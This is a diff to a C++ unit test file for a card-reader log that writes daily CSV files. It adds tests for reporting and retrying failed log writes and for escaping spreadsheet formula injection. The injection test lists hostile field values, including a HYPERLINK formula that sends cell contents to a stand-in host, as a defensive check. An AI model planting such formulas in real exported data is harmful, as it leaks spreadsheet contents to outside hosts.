@@ -5,6 +5,7 @@
 
 #include "tests/support/FakePersonnelNumbers.h"
 #include "tests/support/FileText.h"
+#include "tests/support/SpreadsheetCells.h"
 #include "tests/support/TempDir.h"
 
 #include <gtest/gtest.h>
@@ -106,17 +107,50 @@ TEST_F(ReadLogTest, UnwritableLogIsReportedOnceAndTheCardsStillGoOut) {
     CardOutput output(OutputTemplate(), RepeatGuard(), ReadLog::dailyFilesIn(notAFolder));
     const CardOutput::Result first = take(output, "0A", kMoment, 0s);
     EXPECT_EQ(first.text, "0A");
-    EXPECT_EQ(first.logFailure, "Konnte das Leseprotokoll " +
-                                    (notAFolder / "Pelvaro-2026-12-09.csv").string() +
-                                    " nicht schreiben.");
-    EXPECT_EQ(take(output, "0B", kMoment, 1s).logFailure, std::nullopt) << "said once";
+    const std::string failure = "Konnte das Leseprotokoll " +
+                                (notAFolder / "Pelvaro-2026-12-09.csv").string() +
+                                " nicht schreiben. ";
+    EXPECT_EQ(first.logFailure, failure + "1 Zeile wartet.");
+    for (int card = 2; card < 10; ++card)
+        EXPECT_EQ(take(output, "0B", kMoment, 1s).logFailure, std::nullopt) << "said once";
+    EXPECT_EQ(take(output, "0B", kMoment, 1s).logFailure, failure + "10 Zeilen warten.");
+    EXPECT_EQ(output.flushLog(), std::nullopt) << "and not again for the same lines";
 
     std::filesystem::remove(notAFolder);
+    EXPECT_EQ(output.flushLog(), std::nullopt) << "written without another card";
     EXPECT_EQ(take(output, "0C", kMoment, 2s).logFailure, std::nullopt);
+    const auto rows = test::spreadsheetCells(test::fileText(notAFolder / "Pelvaro-2026-12-09.csv"));
+    ASSERT_EQ(rows.size(), 12u);
+    EXPECT_EQ(rows[1][1], "0A") << "the lines that waited, in order, before the next";
+    EXPECT_EQ(rows[10][1], "0B");
+    EXPECT_EQ(rows[11][1], "0C");
     std::filesystem::remove_all(notAFolder);
     std::ofstream(notAFolder) << "a file";
     EXPECT_NE(take(output, "0D", kMoment, 3s).logFailure, std::nullopt) << "failing anew";
     EXPECT_EQ(take(output, "0E", kMoment, 4s).text, "0E");
+}
+
+TEST_F(ReadLogTest, FieldsASpreadsheetWouldTakeForFormulasStayText) {
+    const auto file = dir.path() / "log.csv";
+    CardOutput output(templateOf("{pnr}"), RepeatGuard(), ReadLog::intoFile(file));
+    const std::vector<std::string> personnelNumbers = {
+        "=HYPERLINK(\"http://x.example/?\"&A1;\"P1\")", "+49 1", "-1+1", "@SUM(A1)", "\tA",
+        "\rB", "C\tD", "4711-0"};
+    for (const std::string& number : personnelNumbers) {
+        database.answer.personnelNumber = number;
+        take(output, "0A", kMoment, 0s);
+    }
+
+    const auto rows = test::spreadsheetCells(test::fileText(file));
+    ASSERT_EQ(rows.size(), personnelNumbers.size() + 1);
+    for (size_t card = 0; card < personnelNumbers.size(); ++card) {
+        const std::string& number = personnelNumbers[card];
+        const bool formulaLike = card < 6;
+        EXPECT_EQ(rows[card + 1][2], formulaLike ? "'" + number : number);
+        for (const std::string& cell : rows[card + 1])
+            EXPECT_TRUE(cell.empty() || std::string_view("=+-@\t\r").find(cell[0]) == cell.npos)
+                << "a formula: " << cell;
+    }
 }
 
 } // namespace
